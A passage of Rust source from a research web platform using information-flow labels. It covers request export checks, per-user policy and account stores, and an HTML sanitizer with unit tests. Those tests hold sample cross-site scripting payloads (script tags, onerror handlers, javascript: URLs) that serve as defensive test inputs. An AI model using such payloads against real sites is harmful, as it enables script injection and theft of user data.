            &self.accounts,
            &self.policies,
            &self.declassifiers,
            &oracle,
        );
        if !decision.allowed {
            self.stats.exports_blocked.fetch_add(1, Ordering::Relaxed);
            let mut r = error_result(403, "export blocked by data owner's policy");
            r.labels = labels;
            r.export = Some(decision);
            return r;
        }
        let (body, sanitized) = if self.config.sanitize_html
            && response.content_type.starts_with("text/html")
        {
            let (clean, stats) = sanitize_html_labeled(
                &String::from_utf8_lossy(&response.body),
                &labels.secrecy.to_obs(),
            );
            (Bytes::from(clean), Some(stats))
        } else {
            (response.body, None)
        };
        InvokeResult {
            status: 200,
            content_type: response.content_type,
            body,
            labels,
            export: Some(decision),
            fault: None,
            sanitized,
        }
    }

    pub(crate) fn record_fault(&self, report: FaultReport) {
        self.stats.faults.fetch_add(1, Ordering::Relaxed);
        let mut faults = self.faults.lock();
        if faults.len() >= 10_000 {
            faults.pop_front();
        }
        faults.push_back(report);
    }

    /// Fault reports retained for developers (already label-scrubbed).
    pub fn fault_reports(&self) -> Vec<FaultReport> {
        self.faults.lock().iter().cloned().collect()
    }

    /// Serializable counter snapshot.
    pub fn stats_view(&self) -> PlatformStatsView {
        use w5_obs::Snapshot;
        self.stats.snapshot()
    }

    /// Build an [`AppRequest`] from decomposed parts (gateway + tests).
    pub fn make_request(
        method: &str,
        action: &str,
        params: &[(&str, &str)],
        viewer: Option<&Account>,
        body: Bytes,
    ) -> AppRequest {
        AppRequest {
            method: method.to_string(),
            action: action.to_string(),
            params: params
                .iter()
                .map(|&(k, v)| (k.to_string(), v.to_string()))
                .collect::<BTreeMap<_, _>>(),
            viewer: viewer.map(|a| a.username.clone()),
            modules: BTreeMap::new(),
            body,
        }
    }
}

thread_local! {
    static SUPPRESS_PANIC_OUTPUT: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

/// Run `f` with panic messages from *this thread* suppressed. Application
/// panics are expected events (they become fault reports); printing their
/// payloads to the provider console would both spam logs and leak data the
/// fault-report redaction exists to protect.
fn quiet_panics<R>(f: impl FnOnce() -> R) -> R {
    use std::sync::Once;
    static INSTALL: Once = Once::new();
    INSTALL.call_once(|| {
        let previous = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            if !SUPPRESS_PANIC_OUTPUT.with(|s| s.get()) {
                previous(info);
            }
        }));
    });
    SUPPRESS_PANIC_OUTPUT.with(|s| s.set(true));
    let result = f();
    SUPPRESS_PANIC_OUTPUT.with(|s| s.set(false));
    result
}

fn error_result(status: u16, msg: &str) -> InvokeResult {
    InvokeResult {
        status,
        content_type: "text/plain; charset=utf-8".to_string(),
        body: Bytes::from(msg.to_string()),
        labels: LabelPair::public(),
        export: None,
        fault: None,
        sanitized: None,
    }
}

fn panic_message(panic: &Box<dyn std::any::Any + Send>) -> String {
    if let Some(s) = panic.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = panic.downcast_ref::<String>() {
        s.clone()
    } else {
        "opaque panic".to_string()
    }
}

/// Escape a string for inclusion in a single-quoted SQL literal.
pub fn sql_escape(s: &str) -> String {
    s.replace('\'', "''")
}

/// The relationship oracle over the platform's tables.
pub struct PlatformOracle<'a> {
    db: &'a Database,
}

impl RelationshipOracle for PlatformOracle<'_> {
    fn are_friends(&self, a: &str, b: &str) -> bool {
        let trusted = Subject::anonymous();
        let sql = format!(
            "SELECT COUNT(*) FROM w5_friends WHERE owner = '{}' AND friend = '{}'",
            sql_escape(a),
            sql_escape(b)
        );
        match self.db.execute(
            &trusted,
            QueryMode::Filtered,
            QueryCost::unlimited(),
            &LabelPair::public(),
            &sql,
        ) {
            Ok(out) => matches!(out.rows.first().map(|r| &r.values[0]), Some(w5_store::Value::Int(n)) if *n > 0),
            Err(_) => false,
        }
    }

    fn in_group(&self, owner: &str, group: &str, user: &str) -> bool {
        let trusted = Subject::anonymous();
        let sql = format!(
            "SELECT COUNT(*) FROM w5_groups WHERE owner = '{}' AND grp = '{}' AND member = '{}'",
            sql_escape(owner),
            sql_escape(group),
            sql_escape(user)
        );
        match self.db.execute(
            &trusted,
            QueryMode::Filtered,
            QueryCost::unlimited(),
            &LabelPair::public(),
            &sql,
        ) {
            Ok(out) => matches!(out.rows.first().map(|r| &r.values[0]), Some(w5_store::Value::Int(n)) if *n > 0),
            Err(_) => false,
        }
    }
}
