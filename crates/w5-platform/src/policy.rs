//! Per-user policies: the user-facing control surface of paper §1–§2.
//!
//! A policy records everything a user has chosen about the software that
//! touches their data:
//!
//! * **declassifier grants** — which declassifier may exercise `e_u-` for
//!   which application ("If Bob wants to use W5 social networking, he must
//!   grant an appropriate declassifier his data export privileges");
//! * **write delegations** — which applications may exercise `w_u+`
//!   ("a user can delegate the write privilege for his data as he sees
//!   fit");
//! * **module choices** — "use developer A's photo cropping module and
//!   developer B's labeling module";
//! * **version pins** — "I want to use version X.Y of that Web
//!   application, not the latest";
//! * **app enrollment** — the checkbox/invitation signup of §1.

use crate::principal::UserId;
use w5_sync::RwLock;
use serde::{Deserialize, Serialize};
use std::collections::{HashMap, HashSet};

/// Scope of a declassifier grant.
#[derive(Clone, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum GrantScope {
    /// The declassifier may act for any application the user uses.
    AllApps,
    /// Only for one application key (`"developer/app"`).
    App(String),
}

/// One declassifier grant.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct DeclassifierGrant {
    /// Registered declassifier name (see `declass::DeclassifierRegistry`).
    pub declassifier: String,
    /// Where it applies.
    pub scope: GrantScope,
}

/// A user's complete policy.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct UserPolicy {
    /// Apps the user has enrolled in (`"developer/app"`).
    pub enrolled: HashSet<String>,
    /// Declassifier grants.
    pub grants: Vec<DeclassifierGrant>,
    /// Apps allowed to write (exercise `w_u+`).
    pub write_delegations: HashSet<String>,
    /// (app, slot) → module developer.
    pub module_choices: HashMap<(String, String), String>,
    /// app → pinned version.
    pub version_pins: HashMap<String, u32>,
    /// Editors whose endorsements this user accepts (§3.2).
    #[serde(default)]
    pub trusted_editors: HashSet<String>,
    /// §3.1 integrity protection: refuse to launch apps (or imports) no
    /// trusted editor has endorsed.
    #[serde(default)]
    pub require_endorsement: bool,
    /// Apps allowed to *read* the user's read-protected data (exercise
    /// `r_u+`). Distinct from write delegation.
    #[serde(default)]
    pub read_delegations: HashSet<String>,
}

impl UserPolicy {
    /// Is `declassifier` granted for `app`?
    pub fn is_granted(&self, declassifier: &str, app: &str) -> bool {
        self.grants.iter().any(|g| {
            g.declassifier == declassifier
                && match &g.scope {
                    GrantScope::AllApps => true,
                    GrantScope::App(a) => a == app,
                }
        })
    }

    /// All declassifiers granted for `app`.
    pub fn granted_for(&self, app: &str) -> Vec<String> {
        self.grants
            .iter()
            .filter(|g| match &g.scope {
                GrantScope::AllApps => true,
                GrantScope::App(a) => a == app,
            })
            .map(|g| g.declassifier.clone())
            .collect()
    }
}

/// The policy database.
pub struct PolicyStore {
    policies: RwLock<HashMap<UserId, UserPolicy>>,
}

impl Default for PolicyStore {
    fn default() -> PolicyStore {
        PolicyStore::new()
    }
}

impl PolicyStore {
    /// An empty store.
    pub fn new() -> PolicyStore {
        PolicyStore { policies: RwLock::new("platform.policy", HashMap::new()) }
    }

    /// Read a user's policy (default-empty).
    pub fn get(&self, user: UserId) -> UserPolicy {
        self.policies.read().get(&user).cloned().unwrap_or_default()
    }

    /// Apply a mutation to a user's policy.
    pub fn update<F: FnOnce(&mut UserPolicy)>(&self, user: UserId, f: F) {
        let mut map = self.policies.write();
        f(map.entry(user).or_default());
    }

    /// Enroll in an app — the one-checkbox signup of §1.
    pub fn enroll(&self, user: UserId, app: &str) {
        self.update(user, |p| {
            p.enrolled.insert(app.to_string());
        });
    }

    /// Leave an app; removes enrollment, its write delegation, its
    /// app-scoped grants, module choices and pins.
    pub fn unenroll(&self, user: UserId, app: &str) {
        self.update(user, |p| {
            p.enrolled.remove(app);
            p.write_delegations.remove(app);
            p.grants.retain(|g| g.scope != GrantScope::App(app.to_string()));
            p.module_choices.retain(|(a, _), _| a != app);
            p.version_pins.remove(app);
        });
    }

    /// Grant a declassifier.
    pub fn grant_declassifier(&self, user: UserId, declassifier: &str, scope: GrantScope) {
        self.update(user, |p| {
            let g = DeclassifierGrant { declassifier: declassifier.to_string(), scope };
            if !p.grants.contains(&g) {
                p.grants.push(g);
            }
        });
    }

    /// Revoke a declassifier everywhere.
    pub fn revoke_declassifier(&self, user: UserId, declassifier: &str) {
        self.update(user, |p| {
            p.grants.retain(|g| g.declassifier != declassifier);
        });
    }

    /// Delegate write privilege to an app.
    pub fn delegate_write(&self, user: UserId, app: &str) {
        self.update(user, |p| {
            p.write_delegations.insert(app.to_string());
        });
    }

    /// Choose a module provider for an app slot.
    pub fn choose_module(&self, user: UserId, app: &str, slot: &str, developer: &str) {
        self.update(user, |p| {
            p.module_choices
                .insert((app.to_string(), slot.to_string()), developer.to_string());
        });
    }

    /// Pin an app version.
    pub fn pin_version(&self, user: UserId, app: &str, version: u32) {
        self.update(user, |p| {
            p.version_pins.insert(app.to_string(), version);
        });
    }

    /// Trust an editor's endorsements (§3.2).
    pub fn trust_editor(&self, user: UserId, editor: &str) {
        self.update(user, |p| {
            p.trusted_editors.insert(editor.to_string());
        });
    }

    /// Toggle §3.1 integrity-protected launching.
    pub fn set_require_endorsement(&self, user: UserId, on: bool) {
        self.update(user, |p| {
            p.require_endorsement = on;
        });
    }

    /// Delegate read privilege (`r_u+`) to an app.
    pub fn delegate_read(&self, user: UserId, app: &str) {
        self.update(user, |p| {
            p.read_delegations.insert(app.to_string());
        });
    }

    /// Users enrolled in a given app (for E1's onboarding metric).
    pub fn enrolled_users(&self, app: &str) -> Vec<UserId> {
        let mut v: Vec<UserId> = self
            .policies
            .read()
            .iter()
            .filter(|(_, p)| p.enrolled.contains(app))
            .map(|(u, _)| *u)
            .collect();
        v.sort();
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const U: UserId = UserId(1);

    #[test]
    fn default_policy_is_empty() {
        let s = PolicyStore::new();
        let p = s.get(U);
        assert!(p.enrolled.is_empty());
        assert!(p.grants.is_empty());
        assert!(!p.is_granted("friends-only", "devA/social"));
    }

    #[test]
    fn grants_scoped_and_wildcard() {
        let s = PolicyStore::new();
        s.grant_declassifier(U, "friends-only", GrantScope::App("devA/social".into()));
        s.grant_declassifier(U, "owner-only", GrantScope::AllApps);
        let p = s.get(U);
        assert!(p.is_granted("friends-only", "devA/social"));
        assert!(!p.is_granted("friends-only", "devB/blog"));
        assert!(p.is_granted("owner-only", "devB/blog"));
        let mut granted = p.granted_for("devA/social");
        granted.sort();
        assert_eq!(granted, vec!["friends-only", "owner-only"]);
    }

    #[test]
    fn duplicate_grants_collapse() {
        let s = PolicyStore::new();
        s.grant_declassifier(U, "x", GrantScope::AllApps);
        s.grant_declassifier(U, "x", GrantScope::AllApps);
        assert_eq!(s.get(U).grants.len(), 1);
    }

    #[test]
    fn revoke_removes_all_scopes() {
        let s = PolicyStore::new();
        s.grant_declassifier(U, "x", GrantScope::AllApps);
        s.grant_declassifier(U, "x", GrantScope::App("a/b".into()));
        s.revoke_declassifier(U, "x");
        assert!(s.get(U).grants.is_empty());
    }

    #[test]
    fn enroll_unenroll_cleans_up() {
        let s = PolicyStore::new();
        s.enroll(U, "devA/social");
        s.delegate_write(U, "devA/social");
        s.grant_declassifier(U, "friends-only", GrantScope::App("devA/social".into()));
        s.grant_declassifier(U, "owner-only", GrantScope::AllApps);
        s.choose_module(U, "devA/social", "feed", "devB");
        s.pin_version(U, "devA/social", 3);

        assert_eq!(s.enrolled_users("devA/social"), vec![U]);
        s.unenroll(U, "devA/social");
        let p = s.get(U);
        assert!(p.enrolled.is_empty());
        assert!(p.write_delegations.is_empty());
        assert_eq!(p.grants.len(), 1, "wildcard grant survives");
        assert!(p.module_choices.is_empty());
        assert!(p.version_pins.is_empty());
    }

    #[test]
    fn module_choice_and_pin() {
        let s = PolicyStore::new();
        s.choose_module(U, "devA/photos", "crop", "devB");
        s.pin_version(U, "devA/photos", 2);
        let p = s.get(U);
        assert_eq!(
            p.module_choices.get(&("devA/photos".to_string(), "crop".to_string())),
            Some(&"devB".to_string())
        );
        assert_eq!(p.version_pins.get("devA/photos"), Some(&2));
    }
}
