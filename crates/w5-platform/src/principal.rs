//! End-user accounts and their tags.
//!
//! Creating an account allocates the user's two default tags (paper §3.1):
//! an **export-protection** tag `e_u` and a **write-protection** tag `w_u`.
//! The account record holds the creator capabilities (`e_u-`, `w_u+`);
//! everything the user later delegates — to declassifiers, to applications
//! — is carved out of this set through the policy store.

use crate::crypto;
use w5_sync::RwLock;
use rand::RngCore;
use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;
use w5_difc::{CapSet, Label, LabelPair, Tag, TagKind, TagRegistry};

/// A user identifier. Stable for the lifetime of a platform instance.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize, serde::Deserialize)]
pub struct UserId(pub u64);

impl fmt::Debug for UserId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "u{}", self.0)
    }
}

impl fmt::Display for UserId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "u{}", self.0)
    }
}

/// A registered end-user.
#[derive(Clone, Debug)]
pub struct Account {
    /// Stable id.
    pub id: UserId,
    /// Login name (unique).
    pub username: String,
    /// The user's export-protection tag `e_u`.
    pub export_tag: Tag,
    /// The user's write-protection tag `w_u`.
    pub write_tag: Tag,
    /// The user's read-protection tag `r_u`, if they enabled the §3.1
    /// "read protection" policy. Unlike `e_u`, raising to `r_u` is a
    /// privilege: only apps the user read-delegates can even *see* data
    /// labeled with it.
    pub read_tag: Option<Tag>,
    /// The owner capabilities: `e_u-`, `w_u+` (and `r_u±` once enabled).
    pub owner_caps: CapSet,
    salt: [u8; 16],
    pass_hash: String,
}

impl Account {
    /// The default labels for this user's data: `S = {e_u}, I = {w_u}`.
    pub fn data_labels(&self) -> LabelPair {
        LabelPair::new(Label::singleton(self.export_tag), Label::singleton(self.write_tag))
    }
}

/// Account-store errors.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum AccountError {
    /// The username is taken.
    UsernameTaken,
    /// Unknown user or wrong password (indistinguishable, deliberately).
    BadCredentials,
    /// Usernames must be 1..=64 chars of `[a-z0-9_-]`.
    InvalidUsername,
}

impl fmt::Display for AccountError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            AccountError::UsernameTaken => "username already taken",
            AccountError::BadCredentials => "unknown user or wrong password",
            AccountError::InvalidUsername => "invalid username",
        };
        f.write_str(s)
    }
}

impl std::error::Error for AccountError {}

/// The account database, owned by the provider.
pub struct AccountStore {
    registry: Arc<TagRegistry>,
    by_name: RwLock<HashMap<String, UserId>>,
    by_id: RwLock<HashMap<UserId, Account>>,
    next_id: std::sync::atomic::AtomicU64,
}

impl AccountStore {
    /// An empty store allocating tags from `registry`.
    pub fn new(registry: Arc<TagRegistry>) -> AccountStore {
        AccountStore {
            registry,
            by_name: RwLock::with_index("platform.principals", 0, HashMap::new()),
            by_id: RwLock::with_index("platform.principals", 1, HashMap::new()),
            next_id: std::sync::atomic::AtomicU64::new(1),
        }
    }

    /// Register a new user; allocates `e_u` and `w_u`.
    pub fn register(&self, username: &str, password: &str) -> Result<Account, AccountError> {
        if username.is_empty()
            || username.len() > 64
            || !username
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-')
        {
            return Err(AccountError::InvalidUsername);
        }
        let mut by_name = self.by_name.write();
        if by_name.contains_key(username) {
            return Err(AccountError::UsernameTaken);
        }
        let id = UserId(
            self.next_id
                .fetch_add(1, std::sync::atomic::Ordering::Relaxed),
        );
        let (export_tag, mut caps) = self
            .registry
            .create_tag(TagKind::ExportProtect, &format!("export:{username}"));
        let (write_tag, wcaps) = self
            .registry
            .create_tag(TagKind::WriteProtect, &format!("write:{username}"));
        caps.extend(&wcaps);
        let mut salt = [0u8; 16];
        rand::thread_rng().fill_bytes(&mut salt);
        let account = Account {
            id,
            username: username.to_string(),
            export_tag,
            write_tag,
            read_tag: None,
            owner_caps: caps,
            salt,
            pass_hash: crypto::password_hash(&salt, password),
        };
        by_name.insert(username.to_string(), id);
        self.by_id.write().insert(id, account.clone());
        Ok(account)
    }

    /// Verify a password; returns the account on success.
    pub fn authenticate(&self, username: &str, password: &str) -> Result<Account, AccountError> {
        let id = *self
            .by_name
            .read()
            .get(username)
            .ok_or(AccountError::BadCredentials)?;
        let acct = self.by_id.read().get(&id).cloned().ok_or(AccountError::BadCredentials)?;
        let attempt = crypto::password_hash(&acct.salt, password);
        if crypto::ct_eq(attempt.as_bytes(), acct.pass_hash.as_bytes()) {
            Ok(acct)
        } else {
            Err(AccountError::BadCredentials)
        }
    }

    /// Look up by username (no credential check — used by trusted
    /// components such as the net boundary's admission policy).
    pub fn find_by_username(&self, username: &str) -> Option<Account> {
        let id = *self.by_name.read().get(username)?;
        self.by_id.read().get(&id).cloned()
    }

    /// Look up by id.
    pub fn get(&self, id: UserId) -> Option<Account> {
        self.by_id.read().get(&id).cloned()
    }

    /// Look up by username.
    pub fn get_by_name(&self, username: &str) -> Option<Account> {
        let id = *self.by_name.read().get(username)?;
        self.get(id)
    }

    /// Which user owns this export tag?
    pub fn owner_of_export_tag(&self, tag: Tag) -> Option<UserId> {
        self.by_id
            .read()
            .values()
            .find(|a| a.export_tag == tag)
            .map(|a| a.id)
    }

    /// Which user owns this tag, as either their export tag or their
    /// read-protection tag? (The perimeter resolves owners for both.)
    pub fn owner_of_secrecy_tag(&self, tag: Tag) -> Option<UserId> {
        self.by_id
            .read()
            .values()
            .find(|a| a.export_tag == tag || a.read_tag == Some(tag))
            .map(|a| a.id)
    }

    /// Enable the §3.1 read-protection policy for a user: allocates their
    /// `r_u` tag (both capability halves stay with the owner) and returns
    /// it. Idempotent.
    pub fn enable_read_protection(&self, id: UserId) -> Option<Tag> {
        let mut by_id = self.by_id.write();
        let account = by_id.get_mut(&id)?;
        if let Some(t) = account.read_tag {
            return Some(t);
        }
        let (tag, caps) = self
            .registry
            .create_tag(TagKind::ReadProtect, &format!("read:{}", account.username));
        account.read_tag = Some(tag);
        account.owner_caps.extend(&caps);
        Some(tag)
    }

    /// Number of registered users.
    pub fn user_count(&self) -> usize {
        self.by_id.read().len()
    }

    /// All user ids (ascending).
    pub fn all_ids(&self) -> Vec<UserId> {
        let mut v: Vec<UserId> = self.by_id.read().keys().copied().collect();
        v.sort();
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn store() -> AccountStore {
        AccountStore::new(Arc::new(TagRegistry::new()))
    }

    #[test]
    fn register_allocates_tags_and_caps() {
        let s = store();
        let bob = s.register("bob", "hunter2").unwrap();
        assert_ne!(bob.export_tag, bob.write_tag);
        assert!(bob.owner_caps.has_minus(bob.export_tag), "declassify own data");
        assert!(!bob.owner_caps.has_plus(bob.export_tag), "plus is global, not private");
        assert!(bob.owner_caps.has_plus(bob.write_tag), "endorse own data");
        let labels = bob.data_labels();
        assert!(labels.secrecy.contains(bob.export_tag));
        assert!(labels.integrity.contains(bob.write_tag));
    }

    #[test]
    fn authenticate_roundtrip() {
        let s = store();
        s.register("bob", "hunter2").unwrap();
        assert!(s.authenticate("bob", "hunter2").is_ok());
        assert!(matches!(s.authenticate("bob", "wrong"), Err(AccountError::BadCredentials)));
        assert!(matches!(s.authenticate("nobody", "x"), Err(AccountError::BadCredentials)));
    }

    #[test]
    fn duplicate_and_invalid_usernames() {
        let s = store();
        s.register("bob", "x").unwrap();
        assert!(matches!(s.register("bob", "y"), Err(AccountError::UsernameTaken)));
        for bad in ["", "Bob", "has space", "ünïcode", &"a".repeat(65)] {
            assert!(matches!(s.register(bad, "p"), Err(AccountError::InvalidUsername)), "{bad:?}");
        }
    }

    #[test]
    fn lookups() {
        let s = store();
        let bob = s.register("bob", "x").unwrap();
        let alice = s.register("alice", "y").unwrap();
        assert_eq!(s.get(bob.id).unwrap().username, "bob");
        assert_eq!(s.get_by_name("alice").unwrap().id, alice.id);
        assert_eq!(s.owner_of_export_tag(bob.export_tag), Some(bob.id));
        assert_eq!(s.owner_of_export_tag(alice.export_tag), Some(alice.id));
        assert_eq!(s.user_count(), 2);
        assert_eq!(s.all_ids(), vec![bob.id, alice.id]);
    }

    #[test]
    fn distinct_users_have_distinct_tags() {
        let s = store();
        let a = s.register("a1", "p").unwrap();
        let b = s.register("b1", "p").unwrap();
        assert_ne!(a.export_tag, b.export_tag);
        assert_ne!(a.write_tag, b.write_tag);
        // a cannot declassify b's data.
        assert!(!a.owner_caps.has_minus(b.export_tag));
    }
}
