//! Perimeter HTML/JavaScript filtering (paper §3.5, "client-side support").
//!
//! "W5 could disable JavaScript entirely by filtering it out at the
//! security perimeter." This module is that filter: a single-pass state
//! machine over outgoing HTML that removes `<script>` elements, inline
//! event-handler attributes (`onclick=` and friends) and `javascript:`
//! URLs. It is intentionally conservative: when in doubt, strip.
//!
//! The filter is measured by experiment E10 (throughput and efficacy over a
//! generated corpus).

/// What the sanitizer removed.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct SanitizeStats {
    /// `<script>…</script>` elements removed.
    pub scripts_removed: usize,
    /// `on*=` attributes removed.
    pub handlers_removed: usize,
    /// `javascript:` URLs neutralized.
    pub js_urls_removed: usize,
}

impl SanitizeStats {
    /// Total removals.
    pub fn total(&self) -> usize {
        self.scripts_removed + self.handlers_removed + self.js_urls_removed
    }
}

/// Serializable snapshot of [`SanitizeStats`].
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct SanitizeStatsView {
    /// `<script>…</script>` elements removed.
    pub scripts_removed: u64,
    /// `on*=` attributes removed.
    pub handlers_removed: u64,
    /// `javascript:` URLs neutralized.
    pub js_urls_removed: u64,
}

impl w5_obs::Snapshot for SanitizeStats {
    type View = SanitizeStatsView;
    fn snapshot(&self) -> SanitizeStatsView {
        SanitizeStatsView {
            scripts_removed: self.scripts_removed as u64,
            handlers_removed: self.handlers_removed as u64,
            js_urls_removed: self.js_urls_removed as u64,
        }
    }
}

/// [`sanitize_html`] plus a ledger record: the run is labeled with the
/// secrecy of the response being scrubbed, since removal counts are a
/// function of (possibly secret) document content.
pub fn sanitize_html_labeled(
    input: &str,
    secrecy: &w5_obs::ObsLabel,
) -> (String, SanitizeStats) {
    let _span = w5_obs::span("platform.sanitize", w5_obs::Layer::Platform, secrecy);
    let (out, stats) = sanitize_html(input);
    w5_obs::record(
        secrecy,
        w5_obs::EventKind::SanitizerRun { removed: stats.total() as u64 },
    );
    (out, stats)
}

/// Sanitize an HTML document, returning the cleaned text and statistics.
/// Non-HTML content should bypass this (the gateway filters by content
/// type).
pub fn sanitize_html(input: &str) -> (String, SanitizeStats) {
    let mut out = String::with_capacity(input.len());
    let mut stats = SanitizeStats::default();
    let bytes = input.as_bytes();
    let mut i = 0;

    while i < bytes.len() {
        if bytes[i] == b'<' {
            // Script element?
            if has_ci_prefix(&input[i..], "<script") {
                // Skip to the matching </script> (case-insensitive); if
                // unterminated, drop the rest of the document — fail closed.
                stats.scripts_removed += 1;
                match find_ci(&input[i..], "</script") {
                    Some(rel) => {
                        let after = i + rel;
                        // Skip past the closing tag's '>'.
                        match input[after..].find('>') {
                            Some(gt) => {
                                i = after + gt + 1;
                            }
                            None => break,
                        }
                    }
                    None => break,
                }
                continue;
            }
            // A normal tag: copy it, filtering dangerous attributes. If a
            // new `<` opens before this tag closes, the markup is broken
            // in a way attackers exploit (`<div<script>…`): drop the
            // broken fragment and resume at the inner `<` (fail closed).
            let rest = &input[i + 1..];
            match (rest.find('>'), rest.find('<')) {
                (Some(g), Some(l)) if l < g => {
                    i += 1 + l;
                    continue;
                }
                (Some(g), _) => {
                    let tag = &input[i..i + 1 + g + 1];
                    out.push_str(&clean_tag(tag, &mut stats));
                    i += 1 + g + 1;
                    continue;
                }
                (None, _) => {
                    // Unterminated tag at EOF: drop it (fail closed).
                    break;
                }
            }
        }
        // Plain text: copy up to the next '<'.
        let next = input[i..].find('<').map(|r| i + r).unwrap_or(bytes.len());
        out.push_str(&input[i..next]);
        i = next;
    }
    (out, stats)
}

fn has_ci_prefix(s: &str, prefix: &str) -> bool {
    // Byte-wise: slicing the &str could split a multi-byte character.
    let (s, p) = (s.as_bytes(), prefix.as_bytes());
    s.len() >= p.len() && s[..p.len()].eq_ignore_ascii_case(p)
}

fn find_ci(haystack: &str, needle: &str) -> Option<usize> {
    let h = haystack.as_bytes();
    let n = needle.as_bytes();
    if n.is_empty() || h.len() < n.len() {
        return None;
    }
    (0..=h.len() - n.len()).find(|&i| h[i..i + n.len()].eq_ignore_ascii_case(n))
}

/// Rewrite one tag, dropping `on*` attributes and neutralizing
/// `javascript:` URLs. The tag arrives as `<name attr=... >`.
fn clean_tag(tag: &str, stats: &mut SanitizeStats) -> String {
    let mut inner = &tag[1..tag.len() - 1];
    // Closing tags and comments pass through.
    if inner.starts_with('/') || inner.starts_with('!') {
        return tag.to_string();
    }
    // Peel a self-closing slash off the end before attribute parsing.
    let self_closing = inner.trim_end().ends_with('/');
    if self_closing {
        inner = inner.trim_end().strip_suffix('/').unwrap_or(inner);
    }
    let mut out = String::with_capacity(tag.len());
    out.push('<');
    let mut chars = inner.char_indices().peekable();
    // Copy the element name.
    let name_end = inner
        .find(|c: char| c.is_ascii_whitespace())
        .unwrap_or(inner.len());
    out.push_str(&inner[..name_end]);
    while let Some(&(pos, _)) = chars.peek() {
        if pos < name_end {
            chars.next();
            continue;
        }
        break;
    }
    // Attribute scanning.
    let mut rest = &inner[name_end..];
    loop {
        let trimmed = rest.trim_start();
        if trimmed.is_empty() {
            break;
        }
        let offset = rest.len() - trimmed.len();
        let _ = offset;
        // Attribute name.
        let name_len = trimmed
            .find(|c: char| c == '=' || c.is_ascii_whitespace())
            .unwrap_or(trimmed.len());
        let attr_name = &trimmed[..name_len];
        let after_name = &trimmed[name_len..];
        let (value, after): (Option<&str>, &str) = if after_name.trim_start().starts_with('=') {
            let eq = after_name.find('=').unwrap();
            let v = after_name[eq + 1..].trim_start();
            if let Some(stripped) = v.strip_prefix('"') {
                match stripped.find('"') {
                    Some(end) => (Some(&stripped[..end]), &stripped[end + 1..]),
                    None => (Some(stripped), ""),
                }
            } else if let Some(stripped) = v.strip_prefix('\'') {
                match stripped.find('\'') {
                    Some(end) => (Some(&stripped[..end]), &stripped[end + 1..]),
                    None => (Some(stripped), ""),
                }
            } else {
                let end = v
                    .find(|c: char| c.is_ascii_whitespace())
                    .unwrap_or(v.len());
                (Some(&v[..end]), &v[end..])
            }
        } else {
            (None, after_name)
        };

        let lower = attr_name.to_ascii_lowercase();
        if lower.starts_with("on") && lower.len() > 2 {
            stats.handlers_removed += 1;
            // Drop the attribute entirely.
        } else if let Some(v) = value {
            let vt = v.trim();
            // Neutralize javascript: (tolerating embedded whitespace
            // tricks like "java\tscript:").
            let compact: String = vt
                .chars()
                .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
                .collect::<String>()
                .to_ascii_lowercase();
            if compact.starts_with("javascript:") {
                stats.js_urls_removed += 1;
                out.push(' ');
                out.push_str(attr_name);
                out.push_str("=\"#\"");
            } else {
                out.push(' ');
                out.push_str(attr_name);
                out.push_str("=\"");
                out.push_str(v);
                out.push('"');
            }
        } else if !attr_name.is_empty() {
            out.push(' ');
            out.push_str(attr_name);
        }
        rest = after;
        if attr_name.is_empty() {
            // Defensive: avoid an infinite loop on pathological input.
            break;
        }
    }
    // Preserve self-closing slash.
    if self_closing {
        out.push_str(" /");
    }
    out.push('>');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn passes_clean_html() {
        let html = r#"<html><body><h1>Title</h1><p class="x">text</p><a href="/next">go</a></body></html>"#;
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.total(), 0);
        assert!(out.contains("<h1>Title</h1>"));
        assert!(out.contains(r#"href="/next""#));
    }

    #[test]
    fn strips_script_elements() {
        let html = "<p>before</p><script>alert('xss')</script><p>after</p>";
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.scripts_removed, 1);
        assert!(!out.contains("alert"));
        assert!(out.contains("before"));
        assert!(out.contains("after"));
    }

    #[test]
    fn strips_script_case_insensitive() {
        let html = "<ScRiPt src=evil.js></SCRIPT>x";
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.scripts_removed, 1);
        assert!(!out.contains("evil"));
        assert!(out.ends_with('x'));
    }

    #[test]
    fn unterminated_script_fails_closed() {
        let html = "<p>ok</p><script>steal()";
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.scripts_removed, 1);
        assert!(!out.contains("steal"));
        assert!(out.contains("ok"));
    }

    #[test]
    fn strips_event_handlers() {
        let html = r#"<img src="a.jpg" onerror="steal()" onload='x()'><div onclick=go>hi</div>"#;
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.handlers_removed, 3);
        assert!(!out.contains("onerror"));
        assert!(!out.contains("onclick"));
        assert!(out.contains(r#"src="a.jpg""#));
        assert!(out.contains(">hi<"));
    }

    #[test]
    fn neutralizes_javascript_urls() {
        let html = r#"<a href="javascript:steal()">x</a><a href="JaVaScRiPt:y()">z</a>"#;
        let (out, stats) = sanitize_html(html);
        assert_eq!(stats.js_urls_removed, 2);
        assert!(!out.to_ascii_lowercase().contains("javascript:"));
        assert!(out.contains(r##"href="#""##));
    }

    #[test]
    fn neutralizes_whitespace_obfuscated_js_urls() {
